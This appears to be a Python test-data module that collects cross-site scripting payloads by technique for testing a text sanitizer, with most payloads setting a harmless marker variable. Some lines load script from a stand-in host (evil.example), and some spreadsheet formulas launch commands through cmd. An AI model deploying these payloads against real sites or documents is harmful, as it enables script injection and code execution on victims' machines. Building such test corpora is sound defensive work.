"""Known cross-site scripting payloads, grouped by the trick each one tries.

Every payload that would run script sets ``window.__xss = 1`` (or calls ``alert``) so a browser test can
tell that it ran. The corpus is data only: tests feed it through every field that takes text.
"""

from __future__ import annotations

SCRIPT_TAGS = [
    "<script>window.__xss=1</script>",
    "<SCRIPT>window.__xss=1</SCRIPT>",
    "<script src=//evil.example/x.js></script>",
    "<scr<script>ipt>window.__xss=1</scr</script>ipt>",
    "<script\x20type=\"text/javascript\">window.__xss=1;</script>",
    "</title><script>window.__xss=1</script>",
    "</textarea><script>window.__xss=1</script>",
    "</script><script>window.__xss=1</script>",
    "<<script>window.__xss=1//<</script>",
    "<script>/*</script><script>*/window.__xss=1</script>",
]

EVENT_HANDLERS = [
    "<img src=x onerror=window.__xss=1>",
    '<img src="x" onerror="window.__xss=1">',
    "<IMG SRC=x OnErRoR=window.__xss=1>",
    "<body onload=window.__xss=1>",
    "<input autofocus onfocus=window.__xss=1>",
    "<details open ontoggle=window.__xss=1>",
    "<video><source onerror=window.__xss=1></video>",
    "<marquee onstart=window.__xss=1>x</marquee>",
    "<div onmouseover=\"window.__xss=1\">hover</div>",
    "<img src=x onerror=&#119;indow.__xss=1>",
    "<a href=x onclick=window.__xss=1>click</a>",
    "<select autofocus onfocus=window.__xss=1></select>",
]

URL_SCHEMES = [
    "[click](javascript:window.__xss=1)",
    "[click](JaVaScRiPt:window.__xss=1)",
    "[click](javascript&#58;window.__xss=1)",
    "[click](  javascript:window.__xss=1)",
    "[click](java\tscript:window.__xss=1)",
    "[click](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==)",
    "![img](javascript:window.__xss=1)",
    "![img](x\"onerror=\"window.__xss=1)",
    "[ref link][r]\n\n[r]: javascript:window.__xss=1",
    "<javascript:window.__xss=1>",
    '<a href="javascript:window.__xss=1">x</a>',
    '<a href="&#106;avascript:window.__xss=1">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html,<script>window.__xss=1</script>">x</a>',
    '<iframe src="javascript:window.__xss=1"></iframe>',
    '<form action="javascript:window.__xss=1"><button>go</button></form>',
    '<object data="javascript:window.__xss=1"></object>',
    '<embed src="javascript:window.__xss=1">',
    '<base href="javascript:window.__xss=1//">',
    '<meta http-equiv="refresh" content="0;url=javascript:window.__xss=1">',
]

SVG_AND_MATHML = [
    "<svg onload=window.__xss=1>",
    "<svg><script>window.__xss=1</script></svg>",
    '<svg><a xlink:href="javascript:window.__xss=1"><text x="20" y="20">x</text></a></svg>',
    "<svg><animate onbegin=window.__xss=1 attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.__xss=1>",
    '<svg><use href="data:image/svg+xml,<svg id=x onload=window.__xss=1>"/></svg>',
]

ENCODING_TRICKS = [
    "&lt;script&gt;window.__xss=1&lt;/script&gt;",
    "%3Cscript%3Ewindow.__xss=1%3C/script%3E",
    "\\u003cscript\\u003ewindow.__xss=1\\u003c/script\\u003e",
    "<scri\x00pt>window.__xss=1</scri\x00pt>",
    "&#60;script&#62;window.__xss=1&#60;/script&#62;",
    "<img src=x onerror=\"&#x77;&#x69;&#x6e;dow.__xss=1\">",
    "\uff1cscript\uff1ewindow.__xss=1\uff1c/script\uff1e",
    "<!--<script>-->window.__xss=1<!--</script>-->",
    "<![CDATA[<script>window.__xss=1</script>]]>",
]

ATTRIBUTE_BREAKOUTS = [
    '"><script>window.__xss=1</script>',
    "'><script>window.__xss=1</script>",
    '" onmouseover="window.__xss=1',
    "' onfocus='window.__xss=1' autofocus='",
    '" autofocus onfocus="window.__xss=1" x="',
    "`><img src=x onerror=window.__xss=1>",
    '"/><svg onload=window.__xss=1>',
    "</a><a href=javascript:window.__xss=1>x",
    "\" style=\"background:url(javascript:window.__xss=1)",
]

TEMPLATE_INJECTION = [
    "{{7*7}}",
    "{{ config }}",
    "{% for x in range(3) %}loop{% endfor %}",
    "${7*7}",
    "#{7*7}",
    "{{constructor.constructor('window.__xss=1')()}}",
    "{{ ''.__class__.__mro__ }}",
]

MARKDOWN_SPECIFIC = [
    "[a](<javascript:window.__xss=1>)",
    "[a](javascript:/**/window.__xss=1)",
    "<http://example.org/\"onmouseover=\"window.__xss=1>",
    "*<img src=x onerror=window.__xss=1>*",
    "| a | b |\n|---|---|\n| <script>window.__xss=1</script> | [x](javascript:window.__xss=1) |",
    "```\n</code></pre><script>window.__xss=1</script>\n```",
    "`<script>window.__xss=1</script>`",
    "# <img src=x onerror=window.__xss=1>",
    "> <script>window.__xss=1</script>",
    "[![img](x)](javascript:window.__xss=1)",
    "<div markdown=\"1\">[x](javascript:window.__xss=1)</div>",
]

CSS_EXPRESSIONS = [
    '<div style="width:expression(window.__xss=1)">x</div>',
    '<div style="background:url(javascript:window.__xss=1)">x</div>',
    "<style>body{background:url(javascript:window.__xss=1)}</style>",
    "<style>@import 'javascript:window.__xss=1';</style>",
    '<link rel="stylesheet" href="javascript:window.__xss=1">',
    '<p style="-moz-binding:url(//evil.example/xss.xml#x)">x</p>',
]

FORMULAS = [  # spreadsheet formula injection, checked in CSV exports
    "=HYPERLINK(\"http://evil.example\",\"click\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]

PAYLOADS: list[str] = [
    *SCRIPT_TAGS, *EVENT_HANDLERS, *URL_SCHEMES, *SVG_AND_MATHML, *ENCODING_TRICKS, *ATTRIBUTE_BREAKOUTS,
    *TEMPLATE_INJECTION, *MARKDOWN_SPECIFIC, *CSS_EXPRESSIONS, *FORMULAS,
]

# A subset that certainly runs ``window.__xss = 1`` if it reaches a page as markup (the browser test's set).
BROWSER_PAYLOADS = [
    "<script>window.__xss=1</script>",
    "<img src=x onerror=window.__xss=1>",
    "<svg onload=window.__xss=1>",
    '"><img src=x onerror=window.__xss=1>',
    "'><img src=x onerror=window.__xss=1>",
    "<details open ontoggle=window.__xss=1>",
    "[click](javascript:window.__xss=1)",
    "<input autofocus onfocus=window.__xss=1>",
]
